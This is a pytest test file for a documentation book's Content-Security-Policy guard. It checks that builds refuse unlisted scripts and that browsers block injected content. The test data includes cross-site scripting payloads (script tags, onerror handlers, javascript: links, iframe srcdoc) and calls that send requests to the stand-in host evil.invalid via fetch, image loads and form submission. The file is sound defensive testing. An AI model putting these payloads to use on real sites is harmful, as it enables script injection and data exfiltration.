"""A page runs the scripts of the book and no others."""

import re

import pytest
import security
from sphinx.errors import ExtensionError
from tests.waiting import wait_until

UNUSED = ("object-src", "media-src", "worker-src", "manifest-src")
BLANK = '<!doctype html><meta charset="utf-8"><title>as it was</title>'
# A script of the test that notes what the policy refuses.
NOTE = """window.refused = []; addEventListener("securitypolicyviolation",
  (event) => window.refused.push(event.effectiveDirective));"""


def bare(page):
    """Return a built page without its policy."""
    return re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)


def test_the_checksum_is_that_of_the_standard():
    """The standard's own example of a script has the checksum that it prints."""
    known = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
    assert security.checksum("alert('Hello, world.');") == known


@pytest.mark.fault(
    "security",
    "an output of a chapter that contains a script, a script in an attribute, or a link that is one",
    "the book is not built: the page and the script are named",
)
@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<script type=module>alert(1)</script>",
        "<script>let toggleHintShow = 'Click to show'; alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="java\nscript:alert(1)">here</a>',
        '<button onclick="window.print(); alert(1)">Print</button>',
    ],
)
def test_a_script_that_is_not_the_books_stops_the_build(markup):
    """A page with it is refused, whatever it calls itself."""
    with pytest.raises(ExtensionError, match=r"chapter\.html: a script stands .*alert\(1\)"):
        security.guard(BLANK + markup, "chapter.html")


def test_data_and_text_are_no_scripts():
    """What no browser runs needs no leave: data of a figure, and a page that speaks of scripts."""
    page = BLANK + '<script type="application/json">[1]</script><p>&lt;script&gt; onclick="x"</p>'
    assert "sha256" not in security.guard(page, "chapter.html")


def test_only_a_page_with_live_code_may_ask_another_host():
    """Binder and thebe stand in the policy of a page with the button, and in no other."""
    plain = security.guard(BLANK, "chapter.html")
    live = security.guard(BLANK + '<button class="eih-live" data-binder="x">', "chapter.html")
    assert "http" not in plain.replace("http-equiv", "")
    assert {*re.findall(r"\w+://[^ ;\"]+", live)} == {
        "https://unpkg.com/thebe@0.9.3/lib/",
        "https://mybinder.org",
        *(f"{way}://{hub}" for way in ("https", "wss") for hub in security.HUBS),
    }
    assert "unsafe" not in live.replace("'self' file: 'unsafe-inline'", "")


def test_the_policy_names_the_program_that_the_page_loads(root):
    """The address of thebe is that of the page's script, version included."""
    script = (root / "book" / "_static" / "live.js").read_text(encoding="utf-8")
    assert f'THEBE = "{security.THEBE}"' in script


# --- the built pages


@pytest.mark.pages
def test_every_page_allows_its_scripts_by_checksum_and_no_others(html):
    """No page lacks the policy, none allows any script inside it, and it comes before all scripts."""
    pages = [path for path in html.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 40
    for path in pages:
        text = path.read_text(encoding="utf-8")
        (policy,) = re.findall(
            '<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text
        )
        sources = dict(part.split(" ", 1) for part in policy.split("; "))
        viewer = path.name.startswith("viewer-")
        assert sources["default-src"] == ("'none'" if viewer else security.BOOK), path.name
        assert viewer or {sources[kind] for kind in UNUSED} == {"'none'"}, path.name
        assert "unsafe" not in sources["script-src"], path.name
        assert "<script" not in text[: text.index("Content-Security-Policy")], path.name
        inside = re.findall(r"(?s)<script(?![^>]*\b(?:src|type)=)[^>]*>(.*?)</script>", text)
        allowed = set(re.findall("'sha256-[^']+'", sources["script-src"]))
        assert {security.checksum(script) for script in inside} == allowed, path.name


EVIL = {
    "script": "<script>document.title = 'evil'</script>",
    "handler": '<img src="data:," onerror="document.title = \'evil\'">',
    "file of another host": '<script src="https://evil.invalid/evil.js"></script>',
    "data as a script": "<script src=\"data:text/javascript,document.title = 'evil'\"></script>",
    "page in the page": "<iframe srcdoc=\"<script>parent.document.title = 'evil'</script>\"></iframe>",
}


@pytest.fixture
def show(site, browser):
    """Return a function that opens a page of the site with a text of one's own instead."""
    opened = []

    def goto(text, name="book/glossary.html"):
        page = browser.new_page()
        opened.append(page)
        page.route("https://evil.invalid/*", lambda route: route.fulfill(
            body="document.title = 'evil'", content_type="text/javascript"))  # fmt: skip
        page.route(f"**/{name}", lambda route: route.fulfill(body=text, content_type="text/html"))
        page.add_init_script(NOTE)
        page.goto(f"{site}/{name}", wait_until="networkidle")
        return page

    yield goto
    for page in opened:
        page.close()


@pytest.mark.fault(
    "security",
    "a script put into a built page: as an element, in an attribute, from another host, as data, in a frame",
    "the browser refuses it, by the page's Content-Security-Policy; without the policy it runs",
)
@pytest.mark.pages
@pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL.keys())
def test_the_browser_refuses_a_script_that_slipped_into_a_page(html, show, evil):
    """The title stays, and the refusal is noted; the same page without its policy is at the script's mercy."""
    text = (html / "book" / "glossary.html").read_text(encoding="utf-8")
    title = re.search("<title>([^&<]*)", text)[1]
    guarded = show(text.replace("</article>", f"{evil}</article>"))
    assert guarded.title().startswith(title)
    refused = [name for frame in guarded.frames for name in frame.evaluate("window.refused")]
    assert {name[:10] for name in refused} == {"script-src"}
    assert show(bare(text).replace("</article>", f"{evil}</article>")).title() == "evil"


@pytest.mark.pages
@pytest.mark.parametrize(
    ("directive", "does"),
    [
        ("connect-src", "fetch('https://evil.invalid/').catch(() => 0)"),
        ("img-src", "new Image().src = 'https://evil.invalid/x.png'"),
        ("base-uri", "document.head.append(Object.assign(document.createElement('base'), {href: '/x/'}))"),
        ("form-action", "(() => { const form = document.querySelector('form'); form.action = "
                        "'https://evil.invalid/'; form.submit(); })()"),
        ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), "
                      "{src: 'https://evil.invalid/'}))"),
    ],
)  # fmt: skip
def test_a_page_tells_no_other_host_anything(html, show, directive, does):
    """What would carry something out of a page, or bend its links, is refused."""
    page = show((html / "book" / "glossary.html").read_text(encoding="utf-8"))
    page.evaluate(does)
    wait_until(page, "window.refused.length")
    assert page.evaluate("window.refused") == [directive]
